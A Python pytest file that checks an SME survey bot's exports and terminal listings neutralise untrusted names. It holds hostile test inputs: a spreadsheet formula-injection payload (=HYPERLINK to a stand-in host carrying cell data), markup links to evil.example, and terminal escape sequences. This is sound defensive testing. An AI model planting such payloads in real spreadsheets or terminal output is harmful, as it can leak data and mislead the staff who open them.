"""Untrusted text - business names, Telegram display names, typed answers - in what staff open:
exports stay inert in a spreadsheet, terminals get neither markup nor escape sequences, and odd
digits never crash an answer."""

import csv
import io
import json
import re
import sqlite3

import pytest
from conftest import EXAMPLES, sme_bot

from sme_bot.flows.answers import Reason, parse
from sme_bot.reports.cells import csv_cell, inert, one_line, scrub
from sme_bot.reports.export import write_csv, write_json, write_xlsx

HYPERLINK = '=HYPERLINK("http://x"&A2,"click")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "=1+1", "-5%", "- bán lẻ"]
# SGR colour codes, which a forced-colour terminal run has around headers; the text between stays.
SGR = re.compile(r"\x1b\[[0-9;]*m")
OSC8 = "\x1b]8;"  # a terminal hyperlink


# -- the cell rules ------------------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    # "-5%" and "- bán lẻ" too: OWASP escapes every leading "-", and Excel shows "'-5%" as -5%.
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["Tạp hoá Cô Ba", "5%", "bán lẻ - tạp hoá", "", "2026-03-02T08:00:00+00:00",
                                   "'=already quoted", 12, -5, -5.0, 1.5, None])
def test_other_values_are_left_as_they_are(value):
    assert inert(value) is value and csv_cell(value) is value


@pytest.mark.parametrize("raw,kept", [("Cô\x07 Ba", "Cô Ba"), ("\x1b[31mđỏ", "[31mđỏ"), ("a\x00b\x7f", "ab"),
                                      ("\x9b31m\x85x", "31mx"), ("dòng 1\ndòng 2\tcột", "dòng 1\ndòng 2\tcột"),
                                      ("a\r\nb", "a\nb")])
def test_files_lose_control_characters_but_keep_tabs_and_line_breaks(raw, kept):
    assert scrub(raw) == kept


def test_controls_go_before_the_formula_check():
    # Otherwise "\x00=1+1" would pass as harmless and become "=1+1" once scrubbed.
    assert csv_cell("\x00=1+1") == "'=1+1"
    assert csv_cell("\r=1+1") == "'=1+1"  # CR is a control character here: dropped, then "=" escaped
    assert csv_cell("\t=1+1") == "'\t=1+1"
    for stored, in_csv, _ in CELLS:  # csv_cell is the two rules in one call, for speed
        assert csv_cell(stored) == inert(scrub(stored)) == in_csv


def test_terminal_text_is_one_line_with_no_escape_sequences():
    assert one_line("a\nb\tc\x1b]8;;http://x\x1b\\y\x07") == "a b c]8;;http://x\\y"
    assert one_line("[/red]") == "[/red]"  # markup is rich's business: see the CLI tests below


# -- every writer --------------------------------------------------------------------------------

# What was stored, what a CSV cell holds, what a spreadsheet or a JSON reader shows.
CELLS = [(HYPERLINK, "'" + HYPERLINK, HYPERLINK), ("+1+1", "'+1+1", "+1+1"), ("-2+3", "'-2+3", "-2+3"),
         ("@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"), ("\t=1+1", "'\t=1+1", "\t=1+1"), ("\r=1+1", "'=1+1", "=1+1"),
         ("\x07\x1b[31mCô Ba\x00", "[31mCô Ba", "[31mCô Ba"), ("-5%", "'-5%", "-5%"),
         ("Tạp hoá Cô Ba", "Tạp hoá Cô Ba", "Tạp hoá Cô Ba"), ("#N/A", "#N/A", "#N/A")]
HEAD = ["name", "points", "percent"]


def body():
    return iter([[stored, -5, 12.5] for stored, _, _ in CELLS])


def test_csv_writer_quotes_formulas_and_drops_controls(tmp_path):
    out = tmp_path / "out.csv"
    write_csv(out, HEAD, body(), lambda: None)
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
    assert rows[0] == HEAD
    assert [row[0] for row in rows[1:]] == [in_csv for _, in_csv, _ in CELLS]
    assert {tuple(row[1:]) for row in rows[1:]} == {("-5", "12.5")}  # numbers untouched


def test_xlsx_writer_stores_formula_text_as_text(tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "out.xlsx"
    # Before: openpyxl raised IllegalCharacterError on the bell, and wrote "=…" as a formula.
    write_xlsx(out, HEAD, body(), lambda: None, summary=[["completed", 1]], codes=[["question"], ["-x"]])
    sheet = load_workbook(out)["Data"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [shown for _, _, shown in CELLS]  # the exact text, no quote shown
    assert [c.data_type for c in cells] == ["s"] * len(CELLS)
    # Excel's quotePrefix keeps the cell text even when someone edits it and presses Enter ("#N/A"
    # would become an error value).
    assert [c.quotePrefix for c in cells] == [shown[:1] in "=+-@\t#" for _, _, shown in CELLS]
    numbers = [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2, min_col=2) for c in row]
    assert set(numbers) == {(-5, "n"), (12.5, "n")}


def test_json_writer_keeps_the_text_as_typed_without_controls(tmp_path):
    out = tmp_path / "out.json"
    write_json(out, HEAD, body(), lambda: None)
    records = json.loads(out.read_text("utf-8"))
    # No quote prefix: JSON is read by programs, not opened in a spreadsheet.
    assert [r["name"] for r in records] == [shown for _, _, shown in CELLS]
    assert {r["points"] for r in records} == {-5}


# -- through the real commands -------------------------------------------------------------------

PERSONA = EXAMPLES / "persona-small-shop.txt"


@pytest.fixture
def db(tmp_path):
    """One dbi-sme assessment typed in the console whose owner gave a formula as the business name."""
    path = tmp_path / "untrusted.db"
    script = PERSONA.read_text("utf-8").replace("Tạp hóa Cô Ba", HYPERLINK)
    assert HYPERLINK in script
    result = sme_bot("console", "-q", "dbi-sme", "--new", "--db", str(path), stdin=script, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    return path


def as_on_telegram(db, name, *, support=False):
    """The respondent's Telegram display name and, if asked, a support request: only the Telegram
    channel records these (there is no command for them), so they are written as it stores them."""
    conn = sqlite3.connect(db)
    with conn:
        conn.execute("update respondents set name = ?", [name])
        if support:
            conn.execute("insert into support_requests (assessment_id, respondent_id, pillars, status, created_at) "
                         "select id, respondent_id, '[\"data\"]', 'open', started_at from assessments")
    conn.close()


def test_exports_of_a_typed_formula_and_a_hostile_name_are_inert(db, tmp_path):
    as_on_telegram(db, "\x07=1+1\x1b[31m Cô Ba")
    for fmt in ("csv", "xlsx", "json"):
        # --include-demo: the row was typed in the console, which staff figures leave out otherwise;
        # --labels codes: the columns are read by id.
        result = sme_bot("export", "--db", str(db), "-q", "dbi-sme", "--format", fmt, "-o", str(tmp_path / f"out.{fmt}"),
                         "--with-identities", "--include-demo", "--labels", "codes", cwd=tmp_path)
        assert result.returncode == 0, result.stderr
    row = next(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8-sig"))))
    assert (row["business_name"], row["name"]) == ("'" + HYPERLINK, "'=1+1[31m Cô Ba")
    assert row["employees"] == "1.0"  # the one-person shop of examples/persona-small-shop.txt

    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "out.xlsx")["Data"]
    cells = dict(zip((c.value for c in sheet[1]), sheet[2], strict=True))
    assert (cells["business_name"].value, cells["business_name"].data_type) == (HYPERLINK, "s")
    assert (cells["name"].value, cells["name"].data_type) == ("=1+1[31m Cô Ba", "s")
    assert (cells["employees"].value, cells["employees"].data_type) == (1, "n")
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    record = json.loads((tmp_path / "out.json").read_text("utf-8"))[0]
    assert (record["business_name"], record["name"]) == (HYPERLINK, "=1+1[31m Cô Ba")


@pytest.mark.parametrize("name,shown", [("[/red]", "[/red]"),
                                        ("[link=http://evil.example]x[/link]", "[link=http://evil.example]x[/link]"),
                                        ("\x1b[31mđỏ\x07", "[31mđỏ")])
def test_support_list_shows_a_name_as_typed(db, tmp_path, name, shown):
    as_on_telegram(db, name, support=True)
    # FORCE_COLOR makes rich write to the pipe as to a terminal, links and colours included.
    result = sme_bot("support", "list", "--db", str(db), cwd=tmp_path, env={"FORCE_COLOR": "1", "COLUMNS": "200"})
    assert result.returncode == 0, result.stderr
    assert OSC8 not in result.stdout and "\x1b[31mđỏ" not in result.stdout and "\x07" not in result.stdout
    assert shown in SGR.sub("", result.stdout)


def test_support_list_csv_quotes_a_formula_name(db, tmp_path):
    as_on_telegram(db, "\x1b" + HYPERLINK, support=True)
    result = sme_bot("support", "list", "--db", str(db), "--format", "csv", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["name"] == "'" + HYPERLINK and json.loads(row["pillars"]) == ["data"]
    # JSON keeps the formula as typed; a C1 control (CSI to xterm) goes as in every output.
    as_on_telegram(db, "\x9b31m" + HYPERLINK)
    listed = sme_bot("support", "list", "--db", str(db), "--format", "json", cwd=tmp_path)
    assert listed.returncode == 0, listed.stderr
    assert "\x9b" not in listed.stdout and json.loads(listed.stdout)[0]["name"] == "31m" + HYPERLINK


def test_cohort_list_shows_a_name_as_typed(tmp_path):
    db = str(tmp_path / "cohorts.db")
    name = "[/red] [link=http://evil.example]x[/link]\x1b[31m"
    created = sme_bot("cohort", "create", "DX", "--name", name, "--db", db, "--qr", str(tmp_path / "qr.png"),
                      cwd=tmp_path)
    assert created.returncode == 0, created.stderr
    listed = sme_bot("cohort", "list", "--db", db, cwd=tmp_path, env={"FORCE_COLOR": "1", "COLUMNS": "200"})
    assert listed.returncode == 0, listed.stderr
    assert OSC8 not in listed.stdout and "\x1b[31m" not in listed.stdout
    assert "[/red] [link=http://evil.example]x[/link]" in SGR.sub("", listed.stdout)


# -- digits of other scripts at a choice or number question ---------------------------------------

# "٣" (Arabic-Indic) and "５" (full-width) are decimal digits: read as 3 and 5. "²" and "①" are
# not digits of a number ("10²" is not 102): no match, and the question is asked again.
@pytest.mark.parametrize("question,typed,expected", [
    ("sector", "²", "no_match"), ("sector", "①", "no_match"), ("sector", "٣", "agriculture"),
    ("sector", "５", "construction"), ("sector", "9" * 5000, "out_of_range"),
    ("c_presence", "²", "no_match"), ("c_presence", "①", "no_match"), ("c_presence", "٣", ("maps",)),
    ("c_presence", "５", ("marketplace",)), ("c_presence", "١, ٣ ５", ("zalo_oa", "maps", "marketplace")),
    ("c_presence", "1, ²", "no_match"), ("c_presence", "1 ①", "no_match"),
    ("employees", "²", "not_a_number"), ("employees", "①", "not_a_number"), ("employees", "٣", 3),
    ("employees", "５", 5), ("employees", "１２ người", 12), ("employees", "10²", "not_a_number"),
])
def test_other_digits_are_read_or_refused_never_a_crash(dbi, question, typed, expected):
    value = parse(dbi.question_by_id[question], typed)
    if isinstance(value, Reason):
        assert value.key == expected and value.render("vi") and value.render("en")
    else:
        assert value == expected


@pytest.mark.parametrize("question,typed,expected", [("books", "²", "no_match"), ("books", "５", "out_of_range"),
                                                     ("books", "٢", "no"), ("channels", "①,٢", "no_match"),
                                                     ("staff", "①", "not_a_number"), ("staff", "٧", 7),
                                                     ("nickname", "m² ５", "m² ５")])
def test_other_digits_in_the_tiny_questionnaire(tiny, question, typed, expected):
    value = parse(tiny.question_by_id[question], typed)
    assert (value.key if isinstance(value, Reason) else value) == expected  # free text is kept as typed
